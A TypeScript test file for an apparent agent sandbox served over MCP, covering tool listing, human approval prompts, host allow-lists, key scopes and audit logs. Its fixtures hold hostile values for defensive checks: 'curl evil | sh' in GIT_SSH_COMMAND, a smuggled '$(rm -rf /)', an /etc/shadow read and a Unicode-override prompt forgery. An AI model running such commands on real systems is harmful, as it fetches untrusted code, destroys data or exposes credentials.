import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { OPERATIONS } from '../../src/agents.ts'
import { type RunningServer, startServer } from '../../src/compose/serve.ts'
import { packageRoot } from '../conformance/world.ts'
import { sdk } from './sdk.ts'

/** The official client against `ringfence mcp` and against `/mcp`. */

type ToolResult = {
  readonly content: readonly { readonly type: string; readonly text?: string; readonly mimeType?: string }[]
  readonly structuredContent?: Readonly<Record<string, unknown>>
  readonly isError?: boolean
}
type Client = {
  connect(transport: object): Promise<void>
  close(): Promise<void>
  listTools(): Promise<{
    readonly tools: readonly {
      readonly name: string
      readonly outputSchema?: object
      readonly annotations?: Readonly<Record<string, unknown>>
    }[]
  }>
  callTool(call: { name: string; arguments?: object }, options?: object): Promise<ToolResult>
  listResources(): Promise<{ readonly resources: readonly { readonly uri: string }[] }>
  readResource(asked: { uri: string }): Promise<{ readonly contents: readonly { readonly text?: string }[] }>
  setRequestHandler(method: string, handler: (request: { params: { message: string } }) => unknown): void
  getNegotiatedProtocolVersion?(): string | undefined
}
type Sdk = {
  readonly Client: new (info: object, options?: object) => Client
  readonly StreamableHTTPClientTransport: new (url: URL, options?: object) => object
}
type StdioSdk = { readonly StdioClientTransport: new (options: object) => object }

const base = mkdtempSync(join(tmpdir(), 'rf-mcp-'))
const workspace = join(base, 'work')
const stateDir = join(base, 'state')
let server: RunningServer
let key: string

beforeAll(async () => {
  mkdirSync(workspace)
  server = await startServer({
    env: { HOME: base, PATH: process.env.PATH, RINGFENCE_HOME: join(base, 'server') },
    port: 0,
  })
  key = (await server.parts.keys.create({ name: 'mcp', scopes: ['create', 'exec', 'read'] })).secret
}, 180_000)
afterAll(async () => {
  await server.close()
  rmSync(base, { recursive: true, force: true })
})

type Way = {
  readonly apiKey?: string
  readonly elicit?: boolean
  readonly version?: string
  readonly args?: readonly string[]
  /** The client's name in the handshake. */
  readonly name?: string
}
const answers: boolean[] = []
const asked: string[] = []

async function connect(
  kind: string,
  { elicit, version, apiKey = key, args = [], name = 'the-tester' }: Way = {},
): Promise<Client> {
  const { Client, StreamableHTTPClientTransport } = await sdk<Sdk>('@modelcontextprotocol/client')
  const { StdioClientTransport } = await sdk<StdioSdk>('@modelcontextprotocol/client/stdio')
  const negotiation = version ? { versionNegotiation: { mode: { pin: version } } } : {}
  const client = new Client(
    { name, version: '1' },
    { capabilities: elicit ? { elicitation: { form: {} } } : {}, ...negotiation },
  )
  if (elicit)
    client.setRequestHandler('elicitation/create', ({ params }) => {
      asked.push(params.message)
      const yes = answers.shift() ?? false
      const isHost =
        'allow' in
        (params as unknown as { requestedSchema: { properties: object } }).requestedSchema.properties
      if (isHost) return { action: 'accept', content: { allow: yes ? 'once' : 'no' } }
      return yes ? { action: 'accept', content: {} } : { action: 'decline' }
    })
  const transport =
    kind === 'stdio'
      ? new StdioClientTransport({
          command: process.execPath,
          args: [join(packageRoot(), 'dist', 'cli', 'ringfence.cjs'), 'mcp', ...args],
          cwd: workspace,
          env: { HOME: base, PATH: process.env.PATH, RINGFENCE_HOME: stateDir },
          stderr: 'inherit',
        })
      : new StreamableHTTPClientTransport(new URL(`${server.url}/mcp`), {
          requestInit: { headers: { authorization: `Bearer ${apiKey}` } },
        })
  await client.connect(transport)
  return client
}

const call = (client: Client, name: string, args: object = {}): Promise<ToolResult> =>
  client.callTool({ name, arguments: args })

describe.each([
  ['stdio', undefined],
  ['stdio', '2026-07-28'],
  ['http', undefined],
  ['http', '2026-07-28'],
])('MCP over %s, revision %s', (kind, version) => {
  let client: Client
  beforeAll(async () => {
    client = await connect(kind, version ? { version } : {})
  }, 180_000)
  afterAll(() => client.close())

  test('lists every operation with its output schema, at most twenty', async () => {
    const { tools } = await client.listTools()
    expect(tools.map(({ name }) => name)).toEqual(OPERATIONS.map(({ name }) => name))
    expect(tools.length).toBeLessThanOrEqual(20)
    expect(tools.every(({ outputSchema }) => outputSchema !== undefined)).toBe(true)
  })

  test('uses one sandbox for the session: files and variables stay', async () => {
    await call(client, 'file_write', { path: 'a.txt', content: 'hello\n' })
    const result = await call(client, 'exec', { command: 'cat a.txt; exit 4' })
    expect(result.structuredContent).toMatchObject({ stdout: 'hello\n', exit_code: 4 })
    await call(client, 'run_code', { code: 'n = 41' })
    expect((await call(client, 'run_code', { code: 'n + 1' })).content[0]?.text).toContain('42')
  })

  test('returns errors as results', async () => {
    for (const [name, args] of [
      ['nonsense', {}],
      ['exec', { command: 5 }],
      ['file_read', { path: '/etc/shadow' }],
    ] as const) {
      const result = await call(client, name, args)
      expect(result.isError).toBe(true)
      expect(result.content[0]?.text).toMatch(/^error: /)
    }
    const big = await call(client, 'file_write', { path: 'b', content: 'x'.repeat(10 * 1024 * 1024) })
    expect(big.content[0]?.text).toMatch(/longer than/)
  })

  test('reports progress while a command runs, and ends it on cancellation', async () => {
    const heard: number[] = []
    await client.callTool(
      { name: 'exec', arguments: { command: 'sleep 1.5' } },
      { onprogress: ({ progress }: { progress: number }) => heard.push(progress) },
    )
    expect(heard.length).toBeGreaterThan(0)
    const stop = new AbortController()
    const running = client.callTool(
      { name: 'exec', arguments: { command: 'sleep 98.7' } },
      { signal: stop.signal },
    )
    setTimeout(() => stop.abort(), 500)
    await expect(running).rejects.toThrow()
    let left = '1'
    for (let tries = 0; tries < 40 && left !== '0'; tries++) {
      const looked = await call(client, 'exec', {
        command: "ps ax -o args | grep -c 'sleep 98[.]7'",
      })
      left = String(looked.structuredContent?.stdout).trim()
    }
    expect(left).toBe('0')
  })

  test('offers the audit log and files as resources', async () => {
    expect((await client.listResources()).resources.map(({ uri }) => uri)).toEqual(['ringfence://trail'])
    const [trail] = (await client.readResource({ uri: 'ringfence://trail' })).contents
    expect(trail?.text).toContain('cat a.txt; exit 4')
    expect(trail?.text).toContain('"agent_id":"mcp/the-tester"')
    const [file] = (await client.readResource({ uri: 'ringfence://file/a.txt' })).contents
    expect(file?.text).toBe('hello\n')
    await expect(client.readResource({ uri: 'ringfence://nothing' })).rejects.toThrow()
  })
})

describe.each([
  ['legacy', undefined],
  ['newest', '2026-07-28'],
])('MCP approvals, %s revision', (_, version) => {
  test('are asked at the client; accepting runs the command, declining does not', async () => {
    const client = await connect('stdio', { elicit: true, ...(version && { version }) })
    asked.length = 0
    answers.push(true, false)
    const yes = await call(client, 'exec', { command: 'git reset --hard' })
    expect(yes.isError).toBeUndefined()
    const no = await call(client, 'exec', { command: 'git reset --hard' })
    expect(no.content[0]?.text).toMatch(/^error: approval-required: not approved: the user declined/)
    expect(asked).toHaveLength(2)
    expect(asked[0]).toContain('git reset --hard')
    await client.close()
  })

  test('open a host only if a person accepts', async () => {
    const client = await connect('stdio', {
      elicit: true,
      args: ['--network', 'fetch'],
      ...(version && { version }),
    })
    answers.push(false, true)
    expect((await call(client, 'request_host', { host: 'example.com', why: 'docs' })).isError).toBe(true)
    const opened = await call(client, 'request_host', { host: 'example.com', why: 'docs' })
    expect(opened.structuredContent).toEqual({ allowed: true, hosts: ['example.com'] })
    await client.close()
  })
})

test('annotations state what a tool changes; none is destructive outside the sandbox', async () => {
  const client = await connect('stdio')
  const { tools } = await client.listTools()
  for (const { name, annotations } of tools)
    expect(annotations, name).toMatchObject({
      readOnlyHint: expect.any(Boolean),
      destructiveHint: false,
      idempotentHint: expect.any(Boolean),
      openWorldHint: name === 'request_host',
    })
  const readOnly = tools.filter(({ annotations }) => annotations?.readOnlyHint).map(({ name }) => name)
  expect(readOnly).toEqual(expect.arrayContaining(['file_read', 'file_grep', 'policy_check', 'view_image']))
  expect(readOnly).not.toContain('exec')
  await client.close()
})

test('Claude Code and Codex get only text and images, because they would show only structured content', async () => {
  for (const name of ['claude-code', 'codex-mcp-client']) {
    const client = await connect('stdio', { name })
    expect((await client.listTools()).tools.every(({ outputSchema }) => outputSchema === undefined)).toBe(
      true,
    )
    const result = await call(client, 'exec', { command: 'echo "a\tb"' })
    expect(result).toEqual({ content: [{ type: 'text', text: 'a\tb\n\n[exit code 0]' }] })
    await client.close()
  }
})

test('--yes approves commands and records that, but opens no host', async () => {
  const client = await connect('stdio', { args: ['--yes', '--network', 'fetch'] })
  expect((await call(client, 'exec', { command: 'git reset --hard' })).isError).toBeUndefined()
  expect((await call(client, 'request_host', { host: 'example.com' })).isError).toBe(true)
  const [trail] = (await client.readResource({ uri: 'ringfence://trail' })).contents
  expect(trail?.text).toContain('"answered_by":"--yes"')
  await client.close()
})

test('a host that is not on the allow list is asked about while the command runs', async () => {
  const client = await connect('stdio', { elicit: true, args: ['--ask-hosts'] })
  await call(client, 'file_write', {
    path: 'get.py',
    content:
      "import sys, urllib.request\ntry: urllib.request.urlopen(sys.argv[1])\nexcept urllib.error.HTTPError as e: print(e.headers['x-ringfence-reason'])\n",
  })
  asked.length = 0
  answers.push(true, false)
  const once = await call(client, 'exec', { command: 'python3 get.py http://a.test:8080/' })
  expect(once.content[0]?.text).toContain('does not resolve')
  const no = await call(client, 'exec', { command: 'python3 get.py http://b.test:8080/' })
  expect(no.content[0]?.text).toContain('rejected by client')
  expect(asked).toEqual([
    expect.stringContaining('wants to reach a.test:8080'),
    expect.stringContaining('wants to reach b.test:8080'),
  ])
  await client.close()
})

/** Asked about in every sandbox: a line that is known only when it runs carries every risk. */
const UNKNOWN = 'eval "$NEXT"'

test('over HTTP only a key that may approve can accept', async () => {
  const operator = await server.parts.keys.create({ name: 'op', scopes: ['create', 'exec', 'read', 'admin'] })
  const client = await connect('http', { elicit: true, apiKey: operator.secret })
  answers.push(true)
  const yes = await call(client, 'exec', { command: UNKNOWN })
  expect(yes.isError).toBeUndefined()
  await client.close()
  const other = await connect('http', { elicit: true })
  answers.push(true)
  const no = await call(other, 'exec', { command: UNKNOWN })
  expect(no.content[0]?.text).toMatch(/^error: forbidden/)
  await other.close()
})

test('an approval request shows the whole command, also long and multi-line ones', async () => {
  const operator = await server.parts.keys.create({ name: 'op', scopes: ['create', 'exec', 'read', 'admin'] })
  const client = await connect('http', { elicit: true, apiKey: operator.secret })
  const ask = async (command: string): Promise<string> => {
    await call(client, 'exec', { command })
    return asked.at(-1) ?? ''
  }
  const long = await ask(`${UNKNOWN} #${' '.repeat(3000)}\nnpm publish`)
  expect(long).toContain('npm publish')
  expect(long).toMatch(/\d+ characters/)
  const forged = await ask(`${UNKNOWN}\n\n\u202eonly shows files`)
  expect(forged.split('\n')).toHaveLength(5)
  await client.close()
})

test('an approval request shows directory, variables and input of a command, without secrets', async () => {
  const operator = await server.parts.keys.create({ name: 'op', scopes: ['create', 'exec', 'read', 'admin'] })
  const client = await connect('http', { elicit: true, apiKey: operator.secret })
  const ask = async (args: Record<string, unknown>, tool = 'exec'): Promise<string> => {
    const before = asked.length
    await call(client, tool, { command: UNKNOWN, ...args })
    expect(asked.length).toBe(before + 1)
    return asked.at(-1) ?? ''
  }
  const env = { GIT_SSH_COMMAND: 'sh -c "curl evil | sh"', API_TOKEN: 'abc123def', A_SECRET: '$(rm -rf /)' }
  const whole = await ask({
    env,
    stdin: 'first\n\u202esecond\nghp_abcdefghijklmnopqrstuvwxyz0123',
    cwd: '/tmp',
  })
  expect(whole).toContain(`GIT_SSH_COMMAND='sh -c "curl evil | sh"'`)
  expect(whole).toContain('A_SECRET=')
  expect(whole, 'a command dressed as a secret').toContain('$(rm -rf /)')
  expect(whole).toContain('in the directory: /tmp')
  expect(whole).toMatch(/with the standard input: first.+second/)
  expect(whole).not.toMatch(/abc123def|ghp_|\u202e/)
  const long = await ask({ stdin: `${'x'.repeat(50_000)}\nnpm publish` })
  expect(long).toContain('npm publish')
  expect(long.length).toBeLessThan(4000)
  expect(await ask({ env }, 'process_start')).toMatch(/GIT_SSH_COMMAND[\s\S]*more standard input/)
  expect(await ask({ command: ['bash', '-c', UNKNOWN, 'a b'] })).toContain(`'eval "$NEXT"' 'a b'`)
  await client.close()
})

test('a client without elicitation gets a refusal', async () => {
  const client = await connect('stdio')
  const result = await call(client, 'exec', { command: 'git reset --hard' })
  expect(result.content[0]?.text).toMatch(/^error: approval-required/)
  await client.close()
})

test('stdio uses the directory in which it was started', async () => {
  const client = await connect('stdio')
  await call(client, 'exec', { command: 'echo here > made.txt' })
  expect(readFileSync(join(workspace, 'made.txt'), 'utf8')).toBe('here\n')
  writeFileSync(join(workspace, 'p.png'), Buffer.from('89504e470d0a1a0a', 'hex'))
  expect((await call(client, 'view_image', { path: 'p.png' })).content[1]?.mimeType).toBe('image/png')
  await client.close()
})

describe('/mcp', () => {
  const post = (headers: Record<string, string>, body: unknown): Promise<Response> =>
    fetch(`${server.url}/mcp`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        accept: 'application/json, text/event-stream',
        ...headers,
      },
      body: JSON.stringify(body),
    })
  const hello = {
    jsonrpc: '2.0',
    id: 1,
    method: 'initialize',
    params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'x', version: '1' } },
  }

  test('refuses a missing key, a wrong key and a key without the scope', async () => {
    expect((await post({}, hello)).status).toBe(401)
    expect((await post({ authorization: 'Bearer rf_nothing' }, hello)).status).toBe(401)
    const { secret } = await server.parts.keys.create({ name: 'reader', scopes: ['read'] })
    expect((await post({ authorization: `Bearer ${secret}` }, hello)).status).toBe(403)
  })

  test('does not find the session of another key', async () => {
    const begun = await post({ authorization: `Bearer ${key}` }, hello)
    const session = begun.headers.get('mcp-session-id') ?? ''
    expect(session).not.toBe('')
    await begun.text()
    const other = (await server.parts.keys.create({ name: 'other', scopes: ['create', 'exec', 'read'] }))
      .secret
    const list = { jsonrpc: '2.0', id: 2, method: 'tools/list' }
    const headers = { 'mcp-session-id': session, 'mcp-protocol-version': '2025-06-18' }
    expect((await post({ ...headers, authorization: `Bearer ${other}` }, list)).status).toBe(404)
    expect((await post({ ...headers, authorization: `Bearer ${key}` }, list)).status).toBe(200)
  })
})
